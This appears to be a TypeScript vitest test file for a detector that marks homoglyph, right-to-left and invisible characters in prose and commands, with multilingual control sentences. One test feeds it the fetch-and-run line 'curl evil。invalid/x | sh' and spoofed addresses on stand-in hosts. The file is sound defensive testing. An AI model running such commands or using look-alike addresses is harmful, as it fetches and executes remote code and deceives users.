import { describe, expect, test } from "vitest";

import { LOOK_ALIKES } from "./look-alikes.ts";
import { markText, type TextUse } from "./mark-text.ts";
import { listSignSpoofs, listWordSpoofs, RIGHT_TO_LEFT_SPOOFS } from "./testing/spoofs.ts";

const isMarked = (text: string, use: TextUse): boolean =>
  markText(text, use).some(({ type }) => type !== "text");

/** Ordinary sentences, none of which may have a mark. */
const SENTENCES = [
  ["English", "It’s fine – read “the file”, then run it… 50 % done, 3 × 4 = 12, and a ½ cup."],
  ["German", "Bitte prüfe die Größe der Datei „Straße.txt“ – schöne Grüße!"],
  ["French", "L’élève a mangé son œuf à Noël, n’est-ce pas ? Ça coûte 3 €."],
  ["Spanish", "¿Dónde está el niño? El nº 1 está aquí, en la 2ª planta."],
  ["Turkish", "Işıklı yağmur çünkü öğleden sonra başladı; dosyayı aç."],
  ["Polish", "Zażółć gęślą jaźń, proszę otworzyć plik."],
  ["Vietnamese", "Vui lòng mở tệp và chạy thử nghiệm được không?"],
  ["Russian", "Он сухо сказал: а у нас хор, и т.д., № 5. Открой файл.txt, т.е. всё."],
  ["Ukrainian", "Їжак і ґава з’їли це. Приведи файл.txt, ось так."],
  ["Greek", "Παρακαλώ άνοιξε το αρχείο και τρέξε τα τεστ· ο, η, το."],
  ["Armenian", "Խնդրում եմ բացեք ֆայլը և գործարկեք թեստը։"],
  ["Arabic", "يرجى قراءة الملف أولاً، ثم تشغيل الاختبار رقم ٥."],
  ["Hebrew", "נא לפתוח את הקובץ ולהריץ את הבדיקות: או כך או כך."],
  ["Persian", "لطفاً پرونده را باز کنید و آزمون را اجرا کنید."],
  ["Chinese", "请使用 Git，然后运行测试：JSON形式，一共〇个；好吗？"],
  ["Japanese", "ファイルを開いて、テストを実行してください。ＡＢＣとＵＲＬ、ノート。"],
  ["Korean", "파일을 열고 테스트를 실행하세요."],
  ["Hindi", "कृपया फ़ाइल खोलें और परीक्षण चलाएँ, ०१२।"],
  ["Thai", "กรุณาเปิดไฟล์และรันการทดสอบ ๐๑๒"],
  ["Pictures", "👨‍👩‍👧 ❤️ 👍🏽 1️⃣ 🇩🇪 ✅ → done"],
] as const;

describe("Text that can be mistaken for another", () => {
  test("is marked: words with letters of other scripts, in prose and in commands", async ({
    annotate,
  }) => {
    const spoofs = listWordSpoofs();
    let tried = 0;
    const missed: string[] = [];
    for (const spoof of spoofs) {
      for (const text of [spoof, `${spoof}.com`, `Open ${spoof} now`, `https://${spoof}.com/a`]) {
        if (!isMarked(text, "exact")) missed.push(`exact ${text}`);
        if (!isMarked(text, "prose")) missed.push(`prose ${text}`);
      }
      tried += 1;
    }
    expect(missed).toEqual([]);
    expect(tried).toBe(spoofs.length);
    expect(tried).toBeGreaterThanOrEqual(300);
    await annotate(`${tried} spoofed words, each in 4 places, as prose and as what runs`, "cases");
  });

  test("is marked: look-alikes of signs in commands, and right-to-left letters, in their order", async ({
    annotate,
  }) => {
    const spoofs = [...listSignSpoofs(), ...RIGHT_TO_LEFT_SPOOFS];
    const missed = spoofs.filter((text) => !isMarked(text, "exact"));
    expect(missed).toEqual([]);
    for (const text of RIGHT_TO_LEFT_SPOOFS) {
      const kinds = new Set(markText(text, "exact").map(({ type }) => type));
      expect(kinds).toContain("reversed");
    }
    await annotate(`${spoofs.length} spoofed commands and addresses`, "cases");
  });

  test.each([
    "github.com∕x.evil.invalid",
    "github.com／x.evil.invalid",
    "user＠evil.invalid",
    "a⁄b.invalid",
    "evil｡invalid",
    "evil。invalid",
    "nameʺx.invalid",
  ])("is marked in an address in prose: %s", (text) =>
    expect(isMarked(`See ${text} for more`, "prose")).toBe(true),
  );

  test("is marked in a command whose host contains a Chinese full stop, and nowhere else", () => {
    expect(isMarked("curl evil。invalid/x | sh", "exact")).toBe(true);
    expect(isMarked("git commit -m '修复测试。'", "exact")).toBe(false);
  });

  test.each(["аррӏе.com", "x@аррӏе.сo", "сосо.рф", "https://рауро.сс/", "open раса now", "раса"])(
    "is marked as a whole word of another script: %s",
    (text) => expect(isMarked(text, "prose")).toBe(true),
  );

  test.each(SENTENCES)("an ordinary sentence has no mark: %s", (_, sentence) => {
    const marks = markText(sentence, "prose").filter(({ type }) => type !== "text");
    expect(marks).toEqual([]);
  });

  test(
    "has a mark for every character that is not harmless by rule",
    { timeout: 60_000 },
    async ({ annotate }) => {
      const wrong: string[] = [];
      let tried = 0;
      let marked = 0;
      for (let point = 0; point <= 0x10_ffff; point += 1) {
        const character = String.fromCodePoint(point);
        const segments = markText(`ab ${character} c`, "exact");
        const isShown = segments.length === 1;
        if (isShown !== isHarmless(character)) wrong.push(point.toString(16));
        tried += 1;
        if (!isShown) marked += 1;
      }
      expect(wrong).toEqual([]);
      expect(tried).toBe(0x11_0000);
      await annotate(`all ${tried} characters, ${marked} of them marked`, "cases");
    },
  );
});

const RIGHT_TO_LEFT =
  /[\u0590-\u08FF\uFB1D-\uFDFF\uFE70-\uFEFC\u{10800}-\u{10FFF}\u{1E800}-\u{1EFFF}]/u;
const INVISIBLE =
  /[\p{Cc}\p{Cf}\p{Co}\p{Cn}\p{Cs}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]|(?! )\p{Zs}|[\u1680\u2800]/u;
/** Scripts that UAX 31 recommends, and characters without a script. */
const COMMON_SCRIPT =
  /[\p{sc=Arab}\p{sc=Armn}\p{sc=Beng}\p{sc=Bopo}\p{sc=Cyrl}\p{sc=Deva}\p{sc=Ethi}\p{sc=Geor}\p{sc=Grek}\p{sc=Gujr}\p{sc=Guru}\p{sc=Hani}\p{sc=Hang}\p{sc=Hebr}\p{sc=Hira}\p{sc=Kana}\p{sc=Knda}\p{sc=Khmr}\p{sc=Laoo}\p{sc=Latn}\p{sc=Mlym}\p{sc=Mymr}\p{sc=Orya}\p{sc=Sinh}\p{sc=Taml}\p{sc=Telu}\p{sc=Thaa}\p{sc=Thai}\p{sc=Tibt}\p{sc=Zyyy}\p{sc=Zinh}]/u;

/** Whether a character alone is visible, is drawn in order, and does not resemble an ASCII character. */
function isHarmless(character: string): boolean {
  if (/[\n\x20-\x7E]/.test(character)) return true;
  if (INVISIBLE.test(character) || RIGHT_TO_LEFT.test(character)) return false;
  // A combining sign follows a space here, not a letter.
  if (/\p{M}/u.test(character) || !COMMON_SCRIPT.test(character)) return false;
  if ("｡ʺˮǁ".includes(character)) return false;
  return !/^[\x21-\x7E]+$/.test(character.normalize("NFKC")) && !LOOK_ALIKES.has(character);
}
